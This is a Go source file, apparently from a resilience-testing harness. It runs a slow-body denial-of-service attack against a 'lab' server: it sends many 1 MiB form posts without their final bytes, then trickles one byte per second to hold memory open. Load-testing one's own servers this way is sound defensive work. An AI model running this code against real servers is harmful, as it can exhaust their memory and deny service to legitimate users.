package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"time"
)

// bodies is from the row about memory without bound. Many forms of 1 MiB arrive but for their end, of which a
// byte comes each second: the lab keeps what it has of each. One that is cut off is begun anew.
func bodies(ctx context.Context, a *attacker) error {
	const size = 1 << 20
	form := "key=k&value=" + strings.Repeat("x", size-100)
	head := a.header("POST /set", "a=b") +
		fmt.Sprintf("Content-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n", size)
	a.ready(ctx)
	repeat(ctx, a.n, func(int) {
		conn, err := a.connect(ctx)
		if err != nil {
			a.noted(ctx, "connection", answer{}, err)
			wait(ctx, time.Second)
			return
		}
		defer conn.Close()
		defer context.AfterFunc(ctx, func() { conn.Close() })()
		if _, err := io.WriteString(conn, head+form); err != nil {
			a.noted(ctx, "body", answer{}, err)
			wait(ctx, 100*time.Millisecond)
			return
		}
		a.trickle(ctx, conn)
	})
	a.say("%d forms of 1 MiB at a time, without their end", a.n)
	return nil
}

// trickle sends a byte each second until the lab answers or closes the connection.
func (a *attacker) trickle(ctx context.Context, conn net.Conn) {
	for ctx.Err() == nil {
		_ = conn.SetReadDeadline(time.Now().Add(time.Second))
		start := make([]byte, len("HTTP/1.1 200"))
		_, err := io.ReadFull(conn, start)
		switch {
		case err == nil:
			a.count("body " + string(start[len("HTTP/1.1 "):]))
			return
		case errorKind(err) != "timeout":
			a.noted(ctx, "body", answer{}, err)
			return
		}
		if _, err := io.WriteString(conn, "x"); err != nil {
			a.noted(ctx, "body", answer{}, err)
			return
		}
	}
}
